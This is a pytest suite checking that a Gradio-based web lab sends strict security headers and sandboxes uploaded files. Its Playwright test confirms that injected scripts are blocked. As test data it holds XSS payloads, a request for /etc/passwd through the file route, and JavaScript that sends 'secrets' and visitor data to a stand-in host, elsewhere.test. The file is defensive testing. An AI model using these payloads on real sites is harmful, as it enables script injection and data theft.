"""No answer goes out without the headers that say what a browser may do with it."""

import re
from functools import partial
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread

import httpx
import pytest
from playwright.sync_api import Page, expect

from space.host.headers import policy
from space.host.open_routes import OPEN
from space.page.modules import BASE
from space.text.limits import MAX_REQUEST_BYTES
from tests.pages import until_quiet, watch
from tests.processes import Lab

ROUTES = [
    *(route for routes in OPEN.values() for route in routes),
    *("HEAD /", "GET /?deep_link=x", "OPTIONS /config", "PATCH /", "GET /none", "GET /monitoring"),
    *(f"GET /{BASE}page/dom.js", "GET /weights/vae-mnist-2d", "GET /weights/none", "GET /hangul.woff2"),
    *("GET /qr?of=https://a/", "GET /qr"),
    *("GET /assets/none.js", "POST /gradio_api/run/none", "GET /gradio_api/file=/etc/passwd"),
]
EVIL = b"<script>parent.hacked = 1</script><svg xmlns='http://www.w3.org/2000/svg' onload='hacked = 1'/>"


@pytest.fixture(scope="module")
def client(lab: Lab):
    with httpx.Client(base_url=lab.url, timeout=120) as client:
        yield client


@pytest.mark.parametrize("route", ROUTES)
def test_every_answer_says_what_a_browser_may_do_with_it(client: httpx.Client, route: str):
    method, path = route.split(" ", 1)
    path = re.sub(r"{[^}]*}", "x", path)
    with client.stream(method, path, json={} if method == "POST" else None) as answer:
        assert answer.headers.get_list("x-content-type-options") == ["nosniff"]
        assert answer.headers.get_list("referrer-policy") == ["strict-origin-when-cross-origin"]
        assert "camera=(self)" in answer.headers["permissions-policy"]
        assert len(answer.headers.get_list("content-security-policy")) == 1
        assert "'unsafe-inline'" not in answer.headers["content-security-policy"].split("style-src")[0]
        assert answer.headers.get("content-type") or answer.status_code != 200


def test_a_refused_or_oversized_request_has_them_too(client: httpx.Client):
    for answer in (
        client.post("/gradio_api/queue/join", content=b"x" * (MAX_REQUEST_BYTES + 1)),
        client.get("/gradio_api/token"),
    ):
        assert answer.status_code in (404, 413) and answer.headers["x-content-type-options"] == "nosniff"


def test_a_page_that_the_browser_has_keeps_its_policy(client: httpx.Client):
    """The headers of a 304 replace those of the page that the browser kept."""
    whole = client.get("/")
    again = client.get("/", headers={"if-none-match": whole.headers["etag"]})
    assert again.status_code == 304
    assert again.headers["content-security-policy"] == whole.headers["content-security-policy"]
    assert whole.headers["content-security-policy"] == policy(whole.content) != policy()


@pytest.mark.parametrize(
    "name", ["page.html", "drawing.svg", "page.xhtml", "style.css", "script.js", "photo.png"]
)
@pytest.mark.parametrize("asked", [{}, {"range": "bytes=0-50", "content-security-policy": "default-src *"}])
def test_an_uploaded_file_runs_nothing(client: httpx.Client, name: str, asked: dict[str, str]):
    (path,) = client.post("/gradio_api/upload", files={"files": (name, EVIL)}).json()
    answer = client.get(f"/gradio_api/file={path}", headers=asked)
    assert answer.status_code in (200, 206) and answer.content in EVIL
    assert answer.headers.get_list("x-content-type-options") == ["nosniff"]
    (said,) = answer.headers.get_list("content-security-policy")
    assert "default-src 'none'" in said and said.endswith("sandbox")
    if name != "photo.png":
        assert answer.headers["content-disposition"].startswith("attachment")
        assert answer.headers["content-type"].startswith("application/octet-stream")


EXPECTED = {
    *("script-src-elem", "script-src-attr"),
    *("img-src", "connect-src", "frame-src", "form-action"),
}
INJECTED = """async (expected) => {
  window.violations = [];
  document.addEventListener("securitypolicyviolation", (e) => violations.push(e.effectiveDirective));
  const add = (name, given) => document.body.append(Object.assign(document.createElement(name), given));
  add("script", { textContent: "window.hacked = 'inline'" });
  add("script", { src: "https://elsewhere.test/hacked.js" });
  add("script", { src: "data:text/javascript,window.hacked='data'" });
  const blob = new Blob(["window.hacked = 'blob'"], { type: "text/javascript" });
  add("script", { src: URL.createObjectURL(blob) });
  add("div", { innerHTML: "<img src='data:,' onerror='hacked = 1'><svg onload='hacked = 2'></svg>" });
  add("a", { href: "javascript:void(window.hacked = 'link')" }); document.body.lastElementChild.click();
  add("iframe", { srcdoc: "<script>parent.hacked = 'frame'</script>" });
  add("iframe", { src: "https://elsewhere.test/" });
  add("object", { data: "https://elsewhere.test/" });
  add("img", { src: "https://elsewhere.test/?what=the+visitor+did" });
  add("base", { href: "https://elsewhere.test/" });
  add("form", { action: "https://elsewhere.test/" }); document.body.lastElementChild.submit();
  await fetch("https://elsewhere.test/").catch(() => {});
  navigator.sendBeacon("https://elsewhere.test/", "secrets");
  const pause = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
  while (!expected.every((one) => violations.includes(one)) && performance.now() < 100_000) await pause(50);
  await pause(500);
  const module = await WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]));
  return [window.hacked ?? null, [...new Set(violations)].sort(), String(module)];
}"""


@pytest.mark.browser
def test_a_script_that_gets_into_the_page_does_not_run(browser, lab: Lab):
    """And nothing leaves for elsewhere. A WebAssembly module of our own may run."""
    context = browser.new_context()
    page, left = context.new_page(), []
    watch(page)
    context.route("https://elsewhere.test/**", lambda route: (left.append(route.request.url), route.abort()))
    page.goto(lab.url)
    page.get_by_role("tab").first.wait_for()
    hacked, violations, module = page.evaluate(INJECTED, list(EXPECTED))
    context.close()
    assert (hacked, left, module) == (None, [], "[object WebAssembly.Module]")
    assert set(violations) >= EXPECTED


@pytest.mark.browser
def test_another_site_may_show_the_lab_in_a_frame(page: Page, lab: Lab, tmp_path: Path):
    (tmp_path / "index.html").write_text(f'<!doctype html><iframe src="{lab.url}/?tab=game"></iframe>')
    serve = partial(SimpleHTTPRequestHandler, directory=tmp_path)
    with ThreadingHTTPServer(("127.0.0.1", 0), serve) as other:  # another port is another origin
        Thread(target=other.serve_forever, daemon=True).start()
        page.goto(f"http://127.0.0.1:{other.server_port}/")
        expect(page.frame_locator("iframe").locator("#game .count")).not_to_be_empty()
        other.shutdown()


@pytest.mark.browser
def test_settings_and_the_list_of_endpoints_keep_to_the_policy(page: Page, lab: Lab):
    """The `page` fixture fails for every violation, here and in all tests of the browser."""
    for view in ("api", "settings"):
        page.goto(f"{lab.url}/?view={view}")
        page.get_by_role("tab").first.wait_for()
        until_quiet(page)
